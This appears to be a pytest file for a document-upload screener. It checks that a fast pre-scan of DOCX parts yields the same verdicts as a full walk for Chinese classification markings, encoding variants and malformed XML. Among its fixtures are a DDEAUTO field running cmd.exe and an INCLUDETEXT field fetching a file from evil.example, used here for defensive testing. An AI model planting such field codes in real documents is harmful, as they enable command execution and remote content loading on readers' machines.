"""The quick pass (oa/uploads/screening/quickscan.py) skips the collector's walk over a story part only when
that walk could find nothing: every file below gets the same verdict, reasons and text flag with the quick
pass on and off, and the parts that could hold a marking or a field code are walked."""

import io
import zipfile

import pytest

from oa.uploads.screening import extract
from oa.uploads.screening.quickscan import quiet_story_part
from tests.uploads import corpus as c
from tests.uploads.screening import blocked, screen

PLAIN = c.p("关于做好电子政务应用系统试运行有关工作的通知") + c.p("各单位要高度重视，") + c.p("切实做好各项工作。")
FILLER = "".join(c.p(f"第{n}段：各单位要切实加强对应用系统试运行工作的领导和协调。") for n in range(3000))
IMAGE = c.png()
DRAWING = ('<w:p><w:r><w:drawing><wp:inline><wp:docPr id="1" name="图片 1"/></wp:inline></w:drawing></w:r></w:p>')


def _with_document(document_xml: bytes) -> bytes:
    """A DOCX whose document.xml is exactly these bytes."""
    source = zipfile.ZipFile(io.BytesIO(c.docx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = document_xml if info.filename == "word/document.xml" else source.read(info)
            archive.writestr(info.filename, data)
    return out.getvalue()


def _document(body: str) -> str:
    return c.story("document", f"<w:body>{body}</w:body>")


CASES = {
    "plain text": c.docx(PLAIN),
    "marking split across runs": c.docx(c.p("机", "密★1年") + PLAIN),
    "marking split across paragraphs": c.docx(c.p("韶关市机") + c.p("密★6个月") + PLAIN),
    "marking after a long body": c.docx(FILLER + c.p("秘密★长期")),
    "bare level in the header area": c.docx(c.p("机密") + PLAIN),
    "bare level in a page header": c.docx(PLAIN, header=c.p("绝", "密")),
    "密 as a character reference": _with_document(_document(
        '<w:p><w:r><w:t>机&#23494;★1年</w:t></w:r></w:p>' + PLAIN).encode()),
    "密 as a hex character reference": _with_document(_document(
        '<w:p><w:r><w:t>秘&#x5bc6;★1年</w:t></w:r></w:p>' + PLAIN).encode()),
    "traditional forms": c.docx(c.p("機密★1年") + PLAIN),
    "密切, not a marking": c.docx(c.p("各单位要密切配合。") + PLAIN),
    "quoted marking in running text": c.docx(PLAIN + c.p("文中写有“机密★1年”字样。")),
    "UTF-16 part": _with_document(_document(c.p("机密★1年") + PLAIN).replace(
        'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")),
    "UTF-16 part without a marking": _with_document(_document(PLAIN).replace(
        'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")),
    "GB18030 part": _with_document(_document(c.p("机密★1年") + PLAIN).replace(
        'encoding="UTF-8"', 'encoding="GB18030"').encode("gb18030")),
    "text in CDATA": _with_document(_document('<w:p><w:r><w:t><![CDATA[机密★1年]]></w:t></w:r></w:p>' + PLAIN).encode()),
    "a fake run in a comment": _with_document(_document('<!-- <w:t>x</w:t> -->' + DRAWING).encode()),
    "DDE field": c.docx(PLAIN + '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/c calc"</w:instrText></w:r></w:p>'),
    "remote INCLUDETEXT in fldSimple": c.docx(
        PLAIN + '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;http://evil.example/x.docx&quot;"/></w:p>'),
    "only whitespace runs and an image": c.docx(
        c.p("\u3000 ") + DRAWING, extra={"word/media/image1.png": IMAGE}),
    "only an image": c.docx(DRAWING, extra={"word/media/image1.png": IMAGE}),
    "text and an image": c.docx(PLAIN + DRAWING, extra={"word/media/image1.png": IMAGE}),
    "a star symbol only, and an image": c.docx(
        '<w:p><w:r><w:sym w:font="Wingdings" w:char="F0AB"/></w:r></w:p>' + DRAWING,
        extra={"word/media/image1.png": IMAGE}),
    "broken after the text": _with_document(_document(PLAIN)[:-20].encode()),
    "broken after a marking": _with_document(_document(c.p("机密★1年") + PLAIN)[:-20].encode()),
    "unbound prefix": _with_document(_document(PLAIN + "<x:p><w:r><w:t>正文</w:t></w:r></x:p>").encode()),
    "DOCTYPE": _with_document(('<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "机密">]>'
                               + _document(PLAIN)[38:]).encode()),
    "a processing instruction": _with_document(_document("<?mso-x 机密?>" + PLAIN).encode()),
    "attribute holding >": _with_document(_document(
        '<w:p><w:r><w:t w:x="a>b">\u3000</w:t></w:r></w:p>' + DRAWING).encode()),
    "marking in a text box": c.docx(PLAIN + c.textbox(c.p("机密"))),
    "tracked insertion": c.docx(PLAIN + c.inserted("机密★1年")),
    "footnote marking": c.docx(PLAIN, footnotes=c.p("秘密★1年")),
}


def _outcome(result):
    return result.verdict, list(result.reasons), result.text_found, result.detected_type


@pytest.mark.parametrize("case", sorted(CASES))
def test_the_quick_pass_changes_no_verdict(case, monkeypatch):
    content = CASES[case]
    quick = _outcome(screen(name="测试.docx", content=content))
    monkeypatch.setattr(extract, "QUICK_PASS", False)
    walked = _outcome(screen(name="测试.docx", content=content))
    assert quick == walked


def test_marks_split_across_runs_and_paragraphs_are_still_found():
    blocked(screen(name="a.docx", content=CASES["marking split across runs"]), "机密★1年")
    blocked(screen(name="a.docx", content=CASES["marking split across paragraphs"]), "机密★6个月")
    blocked(screen(name="a.docx", content=CASES["marking after a long body"]), "秘密★长期")
    blocked(screen(name="a.docx", content=CASES["密 as a character reference"]), "机密★1年")
    blocked(screen(name="a.docx", content=CASES["UTF-16 part"]), "机密★1年")
    assert screen(name="a.docx", content=CASES["密切, not a marking"]).verdict == "accepted"


def _part(content: bytes, name: str = "word/document.xml") -> bool:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return quiet_story_part(archive, archive.getinfo(name))


def test_only_parts_that_cannot_hold_a_marking_skip_the_walk():
    assert _part(CASES["plain text"]) is True
    assert _part(c.docx(FILLER)) is True  # many chunks, no trigger
    for case in ("marking split across runs", "marking after a long body", "密 as a character reference",
                 "密切, not a marking", "UTF-16 part without a marking", "text in CDATA", "DDE field",
                 "remote INCLUDETEXT in fldSimple", "only whitespace runs and an image", "only an image",
                 "a processing instruction", "attribute holding >"):
        assert _part(CASES[case]) is False, case


def test_a_trigger_split_across_chunks_is_seen(monkeypatch):
    from oa.uploads.screening import quickscan

    body = _document(PLAIN + c.p("各单位要机密★1年"))
    position = body.encode().index("密".encode())
    for chunk in (position + 1, position + 2, 4096):
        monkeypatch.setattr(quickscan, "CHUNK", chunk)
        assert _part(_with_document(body.encode())) is False, chunk
        blocked(screen(name="a.docx", content=_with_document(body.encode())), "机密★1年")
